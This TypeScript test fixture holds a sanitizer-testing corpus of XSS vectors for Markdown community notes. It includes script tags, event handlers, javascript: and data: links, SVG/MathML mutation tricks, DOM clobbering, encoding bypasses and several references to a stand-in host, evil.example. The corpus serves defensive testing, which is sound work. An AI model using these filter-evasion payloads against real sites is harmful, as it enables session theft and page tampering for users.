/**
 * Known XSS vectors, posted as community notes by the tests. Every payload that ran would call alert() (a dialog
 * the browser test fails on) or log XSS_MARKER to the console. Sources: the OWASP XSS filter evasion cheat sheet,
 * PortSwigger's XSS cheat sheet, DOMPurify's and rehype-sanitize's bug reports, and Markdown-specific vectors.
 */
export interface XssVector {
  name: string;
  payload: string;
}

const JS = 'alert(1)';
const b64 = (s: string) => Buffer.from(s).toString('base64');
const decimal = (s: string) => [...s].map((c) => `&#${c.charCodeAt(0)};`).join('');
const paddedDecimal = (s: string) =>
  [...s].map((c) => `&#${String(c.charCodeAt(0)).padStart(7, '0')}`).join('');
const hex = (s: string) => [...s].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('');
const percent = (s: string) =>
  [...s].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');

const scriptTags: XssVector[] = [
  { name: 'script tag', payload: `<script>${JS}</script>` },
  { name: 'script tag, upper case', payload: `<SCRIPT>alert('XSS')</SCRIPT>` },
  { name: 'script with src', payload: '<script src="https://evil.example/x.js"></script>' },
  { name: 'script with protocol-relative src', payload: '<SCRIPT SRC=//evil.example/.j></SCRIPT>' },
  { name: 'script, no closing tag', payload: `<script>${JS}` },
  { name: 'nested script tags', payload: `<scr<script>ipt>${JS}</scr</script>ipt>` },
  { name: 'double open bracket', payload: `<<script>${JS};//<</script>` },
  { name: 'script with slash attribute', payload: `<script/xss>${JS}</script>` },
  { name: 'script with fromCharCode', payload: '<script>alert(String.fromCharCode(88,83,83))</script>' },
  { name: 'script in markdown paragraph', payload: `Some text <script>${JS}</script> more text` },
  { name: 'script in a list item', payload: `- item\n- <script>${JS}</script>` },
  { name: 'script in a table cell', payload: `| a | b |\n|---|---|\n| <script>${JS}</script> | x |` },
  { name: 'script in a blockquote', payload: `> <script>${JS}</script>` },
  { name: 'script in a heading', payload: `# <script>${JS}</script>` },
  { name: 'script in a footnote', payload: `See [^1].\n\n[^1]: <script>${JS}</script>` },
  { name: 'script with console marker', payload: "<script>console.log('XSS_MARKER')</script>" },
  { name: 'script in template element', payload: `<template><script>${JS}</script></template>` },
  { name: 'script split by comment', payload: `<scr<!-- -->ipt>${JS}</script>` },
];

const eventHandlers: XssVector[] = [
  { name: 'img onerror', payload: `<img src=x onerror=${JS}>` },
  { name: 'img onerror, quoted', payload: `<img src="x" onerror="${JS}">` },
  { name: 'IMG onmouseover', payload: `<IMG SRC=# onmouseover="alert('xxs')">` },
  { name: 'img eval(src)', payload: '<img src=x:alert(alt) onerror=eval(src) alt=0>' },
  { name: 'img broken quotes', payload: `<IMG """><SCRIPT>${JS}</SCRIPT>">` },
  { name: 'svg onload', payload: `<svg onload=${JS}>` },
  { name: 'svg/onload', payload: `<svg/onload=${JS}>` },
  { name: 'body onload', payload: `<body onload=${JS}>` },
  { name: 'div onmouseover', payload: `<div onmouseover="${JS}">hover me</div>` },
  { name: 'input autofocus onfocus', payload: `<input autofocus onfocus=${JS}>` },
  { name: 'select autofocus onfocus', payload: `<select autofocus onfocus=${JS}></select>` },
  { name: 'textarea autofocus onfocus', payload: `<textarea autofocus onfocus=${JS}></textarea>` },
  { name: 'details ontoggle', payload: `<details open ontoggle=${JS}><summary>x</summary></details>` },
  { name: 'video source onerror', payload: `<video><source onerror="${JS}"></video>` },
  { name: 'audio onerror', payload: `<audio src=x onerror=${JS}>` },
  { name: 'iframe onload', payload: `<iframe onload=${JS}></iframe>` },
  { name: 'marquee onstart', payload: `<marquee onstart=${JS}>x</marquee>` },
  { name: 'a onclick', payload: `<a href="#" onclick="${JS}">click</a>` },
  { name: 'onerror with backticks', payload: '<img src=x onerror=alert`1`>' },
  {
    name: 'onerror with entity-encoded code',
    payload: `<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">`,
  },
  { name: 'handler with slash separator', payload: `<img/src=x/onerror=${JS}>` },
  { name: 'handler after newline', payload: `<img src=x\nonerror=${JS}>` },
  { name: 'span onpointerenter', payload: `<span onpointerenter=${JS}>x</span>` },
  { name: 'style onload', payload: `<style onload=${JS}></style>` },
  { name: 'object onerror', payload: `<object data=x onerror=${JS}></object>` },
  { name: 'inline html in emphasis', payload: `*<img src=x onerror=${JS}>*` },
  { name: 'handler in markdown inline html', payload: `Text <b onmouseover=${JS}>bold</b> text` },
  {
    name: 'onanimationstart',
    payload: `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${JS}">x</p>`,
  },
  { name: 'console marker in handler', payload: `<img src=x onerror="console.log('XSS_MARKER')">` },
];

const jsLinks: XssVector[] = [
  { name: 'markdown javascript: link', payload: `[click](javascript:${JS})` },
  { name: 'mixed-case scheme', payload: `[click](JaVaScRiPt:${JS})` },
  { name: 'scheme with entity colon', payload: `[click](javascript&#58;${JS})` },
  { name: 'scheme with hex entity colon', payload: `[click](javascript&#x3A;${JS})` },
  { name: 'scheme with named entity colon', payload: `[click](javascript&colon;${JS})` },
  { name: 'decimal entity encoded scheme', payload: `[click](${decimal('javascript:')}${JS})` },
  { name: 'padded decimal entities', payload: `[click](${paddedDecimal('javascript:')}${JS})` },
  { name: 'hex entity encoded scheme', payload: `[click](${hex('javascript:')}${JS})` },
  { name: 'percent-encoded scheme', payload: `[click](${percent('javascript')}:${JS})` },
  { name: 'percent-encoded colon', payload: `[click](javascript%3A${JS})` },
  { name: 'leading spaces', payload: `[click](   javascript:${JS})` },
  { name: 'angle-bracket destination', payload: `[click](<javascript:${JS}>)` },
  { name: 'tab entity inside scheme', payload: `[click](java&#09;script:${JS})` },
  { name: 'newline entity inside scheme', payload: `[click](java&#x0A;script:${JS})` },
  { name: 'carriage return entity inside scheme', payload: `[click](java&#13;script:${JS})` },
  { name: 'percent-encoded tab inside scheme', payload: `[click](java%09script:${JS})` },
  { name: 'javascript with comment and newline', payload: '[click](javascript://%0aalert(1))' },
  { name: 'link with title', payload: `[click](javascript:${JS} "title")` },
  { name: 'reference link', payload: `[click][evil]\n\n[evil]: javascript:${JS}` },
  { name: 'reference link, encoded', payload: `[click][evil]\n\n[evil]: ${hex('javascript:')}${JS}` },
  { name: 'autolink', payload: `<javascript:${JS}>` },
  { name: 'image with javascript src', payload: `![x](javascript:${JS})` },
  { name: 'vbscript link', payload: '[click](vbscript:msgbox(1))' },
  { name: 'raw html anchor', payload: `<a href="javascript:${JS}">click</a>` },
  {
    name: 'raw html anchor, entity encoded',
    payload: `<a href="${decimal('javascript:alert(1)')}">click</a>`,
  },
  { name: 'escaped characters in destination', payload: `[click](javascript\\:${JS})` },
  { name: 'unicode escape text', payload: '[click](\\u006aavascript:alert(1))' },
  { name: 'link in a table', payload: `| a |\n|---|\n| [x](javascript:${JS}) |` },
  { name: 'nested link text', payload: `[[inner](javascript:${JS})](https://example.com)` },
  { name: 'link with throw', payload: '[click](javascript:window.onerror=alert;throw%201)' },
  { name: 'livescript scheme', payload: `[click](livescript:${JS})` },
  { name: 'form action', payload: `<form action="javascript:${JS}"><button>go</button></form>` },
  { name: 'button formaction', payload: `<form><button formaction=javascript:${JS}>x</button></form>` },
];

const dataUris: XssVector[] = [
  { name: 'data: html link', payload: `[click](data:text/html,<script>${JS}</script>)` },
  {
    name: 'data: html base64 link',
    payload: `[click](data:text/html;base64,${b64(`<script>${JS}</script>`)})`,
  },
  { name: 'DATA: upper case', payload: `[click](DATA:text/html;base64,${b64(`<script>${JS}</script>`)})` },
  {
    name: 'data: svg image',
    payload: `![x](data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${JS}"/>`)})`,
  },
  { name: 'data: in img tag', payload: `<img src="data:image/svg+xml,<svg onload=${JS}>">` },
  { name: 'data: iframe', payload: `<iframe src="data:text/html,<script>${JS}</script>"></iframe>` },
  {
    name: 'data: object',
    payload: `<object data="data:text/html;base64,${b64(`<script>${JS}</script>`)}"></object>`,
  },
  { name: 'data: embed', payload: `<embed src="data:image/svg+xml;base64,${b64(`<svg onload="${JS}"/>`)}">` },
  {
    name: 'data: entity-encoded scheme',
    payload: `[click](${hex('data:')}text/html,<script>${JS}</script>)`,
  },
  { name: 'data: autolink', payload: `<data:text/html,<script>${JS}</script>>` },
];

const svgAndMathml: XssVector[] = [
  { name: 'svg script', payload: `<svg><script>${JS}</script></svg>` },
  {
    name: 'svg xlink:href javascript',
    payload: `<svg><a xlink:href="javascript:${JS}"><text x="20" y="20">XSS</text></a></svg>`,
  },
  { name: 'svg animate onbegin', payload: `<svg><animate onbegin=${JS} attributeName=x dur=1s>` },
  {
    name: 'svg set href',
    payload: `<svg><a><set attributeName=href to=javascript:${JS} /><text y=20>x</text></a></svg>`,
  },
  {
    name: 'svg foreignObject iframe',
    payload: `<svg><foreignObject><iframe srcdoc="<script>${JS}</script>"></iframe></foreignObject></svg>`,
  },
  {
    name: 'svg use data href',
    payload: `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="1" onerror="${JS}"/></svg>`)}#x"/></svg>`,
  },
  { name: 'svg style with entity', payload: `<svg><style>&lt;img src=x onerror=${JS}&gt;</style></svg>` },
  { name: 'math href', payload: `<math href="javascript:${JS}">CLICK</math>` },
  {
    name: 'math maction',
    payload: `<math><maction actiontype="statusline" xlink:href="javascript:${JS}">x</maction></math>`,
  },
  {
    name: 'math mglyph style mutation',
    payload: `<math><mtext><table><mglyph><style><img src=x onerror=${JS}>`,
  },
  {
    name: 'form math namespace confusion',
    payload: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${JS}>`,
  },
  {
    name: 'math mi xlink data',
    payload: `<math><mi xlink:href="data:x,<script>${JS}</script>">x</mi></math>`,
  },
  { name: 'svg in markdown code block is text', payload: `\`\`\`html\n<svg onload=${JS}>\n\`\`\`` },
  {
    name: 'noscript mutation',
    payload: `<noscript><p title="</noscript><img src=x onerror=${JS}>"></noscript>`,
  },
  { name: 'xmp mutation', payload: `<xmp><img src=x onerror=${JS}></xmp>` },
  { name: 'title mutation', payload: `<title><img src=x onerror=${JS}></title>` },
  { name: 'textarea mutation', payload: `<textarea><img src=x onerror=${JS}></textarea>` },
  { name: 'comment mutation', payload: `<!--><img src=x onerror=${JS}>-->` },
  { name: 'cdata', payload: `<![CDATA[<img src=x onerror=${JS}>]]>` },
];

const styleAndEmbedding: XssVector[] = [
  {
    name: 'full-page overlay',
    payload: '<div style="position:fixed;inset:0;z-index:9999;background:red">Log in again</div>',
  },
  { name: 'style element hides the page', payload: '<style>body{display:none}</style>' },
  { name: 'external stylesheet', payload: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  { name: 'css javascript url', payload: `<div style="background:url(javascript:${JS})">x</div>` },
  { name: 'css expression', payload: `<img style="x:expression(${JS})">` },
  { name: 'css behavior', payload: '<p style="behavior:url(x.htc)">x</p>' },
  { name: 'class overlay', payload: '<div class="fixed inset-0 z-50 bg-red-600">Session expired</div>' },
  { name: 'meta refresh', payload: `<meta http-equiv="refresh" content="0;url=javascript:${JS}">` },
  { name: 'base href', payload: '<base href="javascript:alert(1)//">' },
  { name: 'iframe javascript src', payload: `<iframe src="javascript:${JS}"></iframe>` },
  { name: 'iframe srcdoc', payload: `<iframe srcdoc="<script>${JS}</script>"></iframe>` },
  { name: 'embed javascript', payload: `<embed src="javascript:${JS}">` },
  { name: 'object javascript', payload: `<object data="javascript:${JS}"></object>` },
  { name: 'frameset onload', payload: `<frameset onload=${JS}>` },
  { name: 'remote image', payload: '![tracker](https://evil.example/pixel.png)' },
  { name: 'remote image tag', payload: '<img src="https://evil.example/pixel.png">' },
  {
    name: 'picture source',
    payload: '<picture><source srcset="https://evil.example/p.png"><img src="x"></picture>',
  },
];

const clobbering: XssVector[] = [
  { name: 'id="__next"', payload: '<div id="__next">clobber</div>' },
  { name: 'anchor named __next', payload: '<a id="__next" name="__next">x</a>' },
  { name: 'form id clobbering', payload: '<form id="__next"><input name="attributes"></form>' },
  { name: 'id of the main landmark', payload: '<div id="main">x</div>' },
  { name: 'name=getElementById', payload: '<img name="getElementById" src="x">' },
  { name: 'anchor named cookie', payload: '<a name="cookie">x</a>' },
  { name: 'footnote id', payload: 'Text[^__next]\n\n[^__next]: clobber' },
  { name: 'heading id via html', payload: '<h2 id="lesson-title">Fake title</h2>' },
];

const markdownTricks: XssVector[] = [
  { name: 'title attribute breakout', payload: `[a](https://example.com "x\\" onmouseover=\\"${JS}")` },
  { name: 'destination quote breakout', payload: `[a](https://example.com" onmouseover="${JS})` },
  { name: 'image alt breakout', payload: `![" onerror="${JS}](https://example.com/x.png)` },
  { name: 'autolink quote breakout', payload: `<https://example.com" onclick="${JS}>` },
  { name: 'gfm autolink quote breakout', payload: `www.example.com/"onmouseover="${JS}` },
  { name: 'reference title breakout', payload: `[a][r]\n\n[r]: https://example.com "t\\" onclick=\\"${JS}"` },
  { name: 'html block in list', payload: `1. one\n2. <div onclick="${JS}">two</div>` },
  { name: 'html entity script', payload: `&lt;script&gt;${JS}&lt;/script&gt;` },
  { name: 'percent-encoded script', payload: `%3Cscript%3E${JS}%3C/script%3E` },
  { name: 'utf-7 script', payload: '+ADw-script+AD4-alert(1)+ADw-/script+AD4-' },
  { name: 'full-width brackets', payload: `＜script＞${JS}＜/script＞` },
  { name: 'template injection', payload: "{{constructor.constructor('alert(1)')()}}" },
  { name: 'template literal', payload: '${alert(1)}' },
  { name: 'code span keeps html as text', payload: `\`<img src=x onerror=${JS}>\`` },
  { name: 'inline html across lines', payload: `<img\nsrc=x\nonerror=${JS}\n>` },
  { name: 'processing instruction', payload: `<?xml-stylesheet href="javascript:${JS}"?>` },
  { name: 'mailto with script', payload: `[mail](mailto:a@example.com?body=<script>${JS}</script>)` },
  { name: 'relative link with javascript query', payload: `[rel](/lessons?x=javascript:${JS})` },
];

export const XSS_CORPUS: XssVector[] = [
  ...scriptTags,
  ...eventHandlers,
  ...jsLinks,
  ...dataUris,
  ...svgAndMathml,
  ...styleAndEmbedding,
  ...clobbering,
  ...markdownTricks,
];
